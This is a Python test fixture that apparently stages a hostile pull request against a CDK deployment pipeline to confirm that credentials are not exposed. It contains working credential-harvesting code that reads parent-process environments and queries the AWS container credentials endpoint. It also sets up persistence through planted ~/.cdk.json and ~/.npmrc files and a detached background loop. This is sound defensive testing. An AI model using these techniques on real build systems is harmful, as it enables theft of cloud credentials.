"""A project of a pull request that looks for credentials in every step, and writes down what it catches."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING

from tests.integration.releases import pin
from tests.support import ROOT

if TYPE_CHECKING:
    from pathlib import Path

WHEEL = next((ROOT / "constructs_lib/runtime/wheels").glob("pymysql-*.whl"))

# Runs wherever it can, says in which step, and whatever looks like a credential that it reaches.
SPY = """
import json, os, re, sys, urllib.request
name, found, signed, step, addresses = sys.argv[1], set(), set(), "none", {"http://169.254.170.2/v2/credentials"}
pid = os.getpid()
while pid:
    try:
        text = open(f"/proc/{pid}/environ").read()
        pid = int(re.search(r"^PPid:\\s+(\\d+)", open(f"/proc/{pid}/status").read(), re.M)[1])
    except OSError:
        break
    for entry in text.split("\\0"):
        found |= {entry} if "CANARY" in entry else set()
        signed |= {entry.split("=", 1)[0]} if "X-Amz-Signature" in entry else set()
        if entry.startswith("AWS_CONTAINER_CREDENTIALS_FULL_URI="):
            addresses.add(entry.split("=", 1)[1])
        step = entry.split("=", 1)[1] if entry.startswith("STEP=") else step
for address in addresses:
    try:
        found.add(urllib.request.urlopen(address, timeout=1).read().decode())
    except OSError:
        pass
with open("@HERE@/said", "a") as file:
    file.write(json.dumps({"name": name, "step": step, "found": sorted(found), "signed": sorted(signed)}) + "\\n")
"""
APP = """
import json, os, subprocess, sys
here, home = os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~")
spy = "@HERE@/spy.py"
subprocess.run([sys.executable, spy, "app"])
import governed_cdk, pymysql
assert governed_cdk.PINNED
for folder in (here, home):
    with open(folder + "/.cdk.json", "w") as file:
        json.dump({"build": f"python3 {spy} home-build", "plugin": ["@HERE@/plugin.js"]}, file)
    with open(folder + "/.npmrc", "w") as file:
        file.write("node-options=--require @HERE@/plugin.js\\n")
loop = f"while true; do python3 {spy} left-behind; sleep 0.2; done"
subprocess.Popen(["setsid", "sh", "-c", loop], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
out = os.environ["CDK_OUTDIR"]
role = "arn:aws:iam::111122223333:role/cdk-hnb659fds-%s-role-111122223333-ap-northeast-2"
stacks = {name: {"type": "aws:cloudformation:stack", "environment": "aws://111122223333/ap-northeast-2",
                 "properties": {"templateFile": "s.json", "assumeRoleArn": role % "deploy",
                                "lookupRole": {"arn": role % "lookup"}}} for name in ("orders", "prod-atlantis")}
json.dump({"version": "36.0.0", "artifacts": stacks}, open(out + "/manifest.json", "w"))
json.dump({"Resources": {"Orders": @TABLE@}}, open(out + "/s.json", "w"))
json.dump({"name": "prod", "production": True, "disposable": False}, open(out + "/governed-cdk.environment.json", "w"))
judged = "import pathlib, sys; sys.path.insert(0, sys.argv[1]); from aspects.judge.template import digest; "
judged += "digest.write_digest(pathlib.Path(sys.argv[2]))"
subprocess.run(["@ROOT@/.venv/bin/python", "-c", judged, "@ROOT@", out], check=True)
"""
TABLE = {
    "Type": "AWS::DynamoDB::Table",
    "Properties": {
        "BillingMode": "PAY_PER_REQUEST",
        "AttributeDefinitions": [{"AttributeName": "id", "AttributeType": "S"}],
        "KeySchema": [{"AttributeName": "id", "KeyType": "HASH"}],
    },
}
LOCK = {"prod": {"orders": {"Orders": {"type": "AWS::DynamoDB::Table", "path": "orders/Orders"}}}}
PLUGIN = """
require('child_process').spawnSync('python3', ['@HERE@/spy.py', 'plugin']);
module.exports = { version: '1', init() {} };
"""


def trapped(tmp_path: Path) -> Path:
    """A checkout that sets every trap that there is, and a folder beside it where what is caught is written down."""
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    config = {"app": "python3 app.py", "build": f"python3 {tmp_path}/spy.py build", "plugin": [f"{tmp_path}/plugin.js"]}
    (checkout / "cdk.json").write_text(json.dumps(config))
    text = APP.replace("@HERE@", str(tmp_path)).replace("@ROOT@", str(ROOT)).replace("@TABLE@", repr(TABLE))
    (checkout / "app.py").write_text(text)
    (checkout / "stateful.lock.json").write_text(json.dumps(LOCK))
    digest = hashlib.sha256(WHEEL.read_bytes()).hexdigest()
    requirements = f"{pin(tmp_path)}\npymysql @ {WHEEL.as_uri()} --hash=sha256:{digest}\n"
    (checkout / "requirements.txt").write_text(requirements)
    (tmp_path / "spy.py").write_text(SPY.replace("@HERE@", str(tmp_path)))
    (tmp_path / "plugin.js").write_text(PLUGIN.replace("@HERE@", str(tmp_path)))
    return checkout
